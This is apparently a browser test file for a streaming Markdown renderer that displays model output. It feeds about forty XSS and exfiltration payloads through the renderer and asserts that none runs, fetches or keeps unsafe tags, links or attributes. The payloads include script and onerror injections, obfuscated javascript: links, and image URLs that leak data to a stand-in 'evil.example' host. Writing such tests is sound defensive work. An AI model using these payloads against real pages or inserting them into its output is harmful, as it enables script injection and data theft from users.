"""What a model writes cannot run, fetch or lead anywhere but to the web, at any moment of it."""

from __future__ import annotations

import pytest
from playwright.async_api import Page

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

PAYLOADS = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg/onload=window.hit=1>",
    "<iframe src='javascript:parent.hit=1'></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "[x](javascript:window.hit=1)",
    "[x](JaVaScRiPt:window.hit=1)",
    "[x](java&#115;cript:window.hit=1)",
    "[x](java&Tab;script&colon;window.hit=1)",
    "[x](<java\tscript:window.hit=1>)",
    "[x](&#x6A;avascript:window.hit=1)",
    "[x](data:text/html,<script>window.hit=1</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/api/delete)",
    "[x]: javascript:window.hit=1\n\n[x]",
    "<javascript:window.hit=1>",
    "![x](https://evil.example/leak.png?q=secret)",
    "![x](http://127.0.0.1:9/leak.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](data:image/png;base64,AA" onerror="window.hit=1)',
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    '![a" onerror="window.hit=1](https://evil.example/a.png "b\' onload=x")',
    "[![x](https://evil.example/i.png)](javascript:window.hit=1)",
    "[ref]: https://evil.example/r.png\n\n![a][ref]",
    '```" onmouseover=window.hit=1 x="\ncode\n```',
    "```html\n<img src=x onerror=window.hit=1>\n```",
    "`<img src=x onerror=window.hit=1>`",
    "<a href='javascript:window.hit=1'>x</a>",
    "<form action=https://evil.example><button>x</button></form>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<style>@import 'https://evil.example/s.css'</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "$\\href{javascript:window.hit=1}{x}$",
    "$\\includegraphics{https://evil.example/m.png}$",
    "$\\htmlData{x=1}{\\htmlStyle{background:url(https://evil.example/c.png)}{x}}$",
    "$$\\url{javascript:window.hit=1}$$",
    "| a |\n|---|\n| <img src=x onerror=window.hit=1> [b](javascript:window.hit=1) |",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "\ue0f10\ue0f2 \ue0f0img src=x onerror=window.hit=1>",
]

ATTACK = """async (text) => {
  const { GrowingMarkdown } = await import("/markdown.js");
  const { loadKatex } = await import("/math.js");
  await loadKatex();
  const element = document.body.appendChild(document.createElement("div"));
  const growing = new GrowingMarkdown(element);
  const bad = new Set();
  const allowed = new Set(("P STRONG EM DEL A IMG CODE PRE DIV BUTTON SPAN UL OL LI TABLE THEAD " +
    "TBODY TR TH TD BR HR INPUT BLOCKQUOTE H1 H2 H3 H4 H5 H6").split(" "));
  const inspect = () => {
    for (const node of element.querySelectorAll("*")) {
      if (node.closest(".katex, .copy_code_button") && node.tagName !== "A") continue;
      if (!allowed.has(node.tagName)) bad.add(node.tagName);
      for (const { name, value } of node.attributes) {
        if (name.startsWith("on") || name === "srcdoc") bad.add(name);
        if (name === "style" && /url/i.test(value)) bad.add(value);
      }
      if (node.href && !/^(https?|mailto):/.test(node.href)) bad.add(node.href);
      if (node.href && node.rel !== "noopener noreferrer") bad.add("rel");
      if (node.href && node.target !== "_blank") bad.add("target");
      if (node.src && !/^data:image.(png|jpeg|gif|webp);base64,/.test(node.src)) bad.add(node.src);
    }
  };
  for (const letter of text) { growing.write(letter); inspect(); }
  growing.finish();
  inspect();
  const frame = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
  await frame();
  const shown = element.textContent;
  element.remove();
  return { bad: [...bad], hit: window.hit ?? null, shown };
}"""


async def test_hostile_text_stays_text(page: Page, static_address: str) -> None:
    """One page for all, as one chat may hold them all; each is told with what it did."""
    done: dict[str, object] = {}
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for payload in PAYLOADS:
        asked.clear()
        seen = await page.evaluate(ATTACK, payload)
        ours = [url for url in asked if url.startswith(f"{static_address}/")]
        known = [url for url in ours if any(part in url for part in ("/vendor/", ".js"))]
        fetched = [url for url in asked if url not in known and not url.startswith("data:")]
        if seen["bad"] or seen["hit"] is not None or fetched:
            done[payload] = (seen["bad"], seen["hit"], fetched)
    assert done == {}


async def test_html_is_shown_as_it_was_written(page: Page) -> None:
    seen = await page.evaluate(ATTACK, "a <b>b</b> <script>c</script>\n<div>\n**d**</div>")
    assert seen["shown"] == "a <b>b</b> <script>c</script><div>d</div>"


async def test_a_remote_image_becomes_a_link_with_its_description(page: Page) -> None:
    link = await page.evaluate(
        """async () => {
          const { GrowingMarkdown } = await import("/markdown.js");
          const element = document.createElement("div");
          const growing = new GrowingMarkdown(element);
          growing.write("![bir resim](https://example.com/a.png)");
          growing.finish();
          const link = element.querySelector("a");
          return [link.textContent, link.href, element.querySelectorAll("img").length];
        }"""
    )
    assert link == ["bir resim", "https://example.com/a.png", 0]


async def test_an_image_that_carries_its_bytes_is_shown(page: Page) -> None:
    dot = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="
    count = await page.evaluate(
        """async (dot) => {
          const { GrowingMarkdown } = await import("/markdown.js");
          const element = document.createElement("div");
          const growing = new GrowingMarkdown(element);
          growing.write(`![nokta](${dot})`);
          growing.finish();
          return element.querySelector("img").src === dot;
        }""",
        dot,
    )
    assert count is True
